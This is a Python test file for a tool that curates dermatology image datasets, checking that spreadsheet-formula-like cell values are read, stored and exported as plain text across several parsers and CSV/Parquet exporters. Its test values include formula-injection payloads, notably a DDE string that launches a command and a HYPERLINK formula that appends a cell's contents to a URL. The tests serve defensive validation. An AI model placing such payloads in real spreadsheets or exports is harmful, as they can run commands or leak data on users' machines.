"""Cells that a spreadsheet takes for formulas: read as text, written as text, never computed, never altered."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import small_corpus
from hypothesis import example, given
from hypothesis import strategies as st
from parsing import HEADER_2020, TRAIN_2016, TRAIN_2017, TRAIN_2020, book, complaint, parse_these, records

from curate.cli.rows import write_csv
from curate.cli.skin import Skin
from curate.corpus_rows import CorpusRows
from curate.csv_rows import CsvRows
from curate.export.handover import run
from curate.records import Case
from curate.vocabulary import SPLITS
from curate.workspace import Workspace

FORMULAS = ('=HYPERLINK("http://example.org?"&A1,"nevus")', "+1", "@SUM(A1:A9)", "-2+3", "=1+1", "=cmd|' /C calc'!A0")
every_formula = pytest.mark.parametrize("formula", FORMULAS)


def cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@every_formula
def test_a_label_and_a_free_text_are_copied(tmp_path: Path, formula: str) -> None:
    row = f"ISIC_9000001,{cell(formula)},IL_1,male,45,torso,{cell(formula)},{cell(formula)},0\n"
    (record,) = records(parse_these("isic_2020", tmp_path / "a", {TRAIN_2020: HEADER_2020 + row}))
    assert (record.patient_id, record.source_label, record.claims["benign_malignant"]) == (formula,) * 3
    (record,) = records(parse_these("isic_2016", tmp_path / "b", {TRAIN_2016: f"ISIC_9000001,{cell(formula)}\n"}))
    assert record.source_label == formula
    header = "patient_id,lesion_id,background_father,age,gender,fitspatrick,region,diagnostic,img_id,biopsed\n"
    row = f"PAT_1,2,{cell(formula)},3,,,ARM,{cell(formula)},{cell(formula)},True\n"
    (record,) = records(parse_these("pad_ufes_20", tmp_path / "c", {"metadata.csv": header + row}))
    assert (record.image_id, record.source_label, record.claims["background_father"]) == (formula,) * 3


@every_formula
def test_a_formula_is_no_isic_name_and_no_one_hot_label(tmp_path: Path, formula: str) -> None:
    header = "image_id,melanoma,seborrheic_keratosis\n"
    error = complaint("isic_2017", tmp_path / "a", {TRAIN_2017: f"{header}{cell(formula)},1.0,0.0\n"})
    assert (error.what, error.found) == ("that is no ISIC name", repr(formula))
    error = complaint("isic_2017", tmp_path / "b", {TRAIN_2017: f"{header}ISIC_9000001,{cell(formula)},0.0\n"})
    assert (error.what, error.found) == ("a one-hot label is neither 0 nor 1", repr(formula))


def test_a_text_in_a_workbook_that_looks_like_a_formula_is_copied(tmp_path: Path) -> None:
    (case,) = parse_these(
        "severance", tmp_path, {"SeveranceA.xlsx": book([["+1", 7, "M", "@SUM", "-2+3", "+x", "Arm"]])}
    )
    assert isinstance(case, Case)
    assert (case.source_label, case.claims["clinical_impression"], case.claims["site"]) == ("+1", "@SUM", "+x")


# What is written


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_sql_as_csv(capsys: pytest.CaptureFixture[str]) -> None:
    table = pa.table({"=name": list(FORMULAS), "site": ["a\rb", 'a"b', "a\r\nb", None, "a,b", " a "]})
    write_csv(Skin(), table.to_reader())
    told = read_back(capsys.readouterr().out)
    assert told[0] == ["=name", "site"]
    assert told[1:] == [[name, site or ""] for name, site in zip(*table.to_pydict().values(), strict=True)]


@pytest.fixture
def strange(tmp_path: Path) -> Workspace:
    """A corpus whose pictures have the formulas for families, sites and words of their source."""
    workspace = small_corpus.build(tmp_path / "root")
    with workspace.database() as database:
        ids = sorted(database.table("corpus").column("id").to_pylist())
        for number, formula in enumerate(FORMULAS):
            values = [formula, formula, formula, ids[number % len(ids)]]
            database._execute("update corpus set family = ?, site = ?, source_label = ? where id = ?", values)
    return workspace


def test_export_splits(strange: Workspace, tmp_path: Path) -> None:
    run(strange, "splits", tmp_path / "out")
    with (tmp_path / "out" / "splits.csv").open(encoding="utf-8", newline="") as file:
        told = {row["id"]: row["family"] for row in csv.DictReader(file)}
    assert told == {row["id"]: row["family"] for row in CorpusRows.of(strange).ordered("id")}
    assert set(told.values()) & set(FORMULAS)


def test_export_imagefolder(strange: Workspace, tmp_path: Path) -> None:
    run(strange, "imagefolder", tmp_path / "out")
    rows = {row["id"]: row for row in CorpusRows.of(strange).ordered("id")}
    words = {row["id"]: row for row in pq.read_table(tmp_path / "out" / "pictures.parquet").to_pylist()}
    for split in SPLITS:
        for row in read_back_rows(tmp_path / "out" / split / "metadata.csv"):
            kept = rows.pop(row["id"])
            assert (row["family"], row["site"]) == (kept["family"], kept["site"] or "unknown")
            assert words[row["id"]]["source_label"] == kept["source_label"]
            assert (tmp_path / "out" / split / row["file_name"]).is_file(), "and the name is one of the disk"
    assert not rows


def read_back_rows(path: Path) -> list[dict[str, str]]:
    if not path.exists():
        return []
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


ANY = st.text(st.characters(exclude_categories=["Cs"]), max_size=8)


@given(st.lists(st.lists(ANY | st.none() | st.integers(), min_size=1, max_size=4), max_size=4))
@example([["a\rb"]])
@example([[""], ["\r"], ["\n", "\r\n"]])
def test_any_row_comes_back(rows: list[list[str | int | None]]) -> None:
    written = io.StringIO(newline="")
    CsvRows(written).rows(rows)
    assert read_back(written.getvalue()) == [["" if cell is None else str(cell) for cell in row] for row in rows]
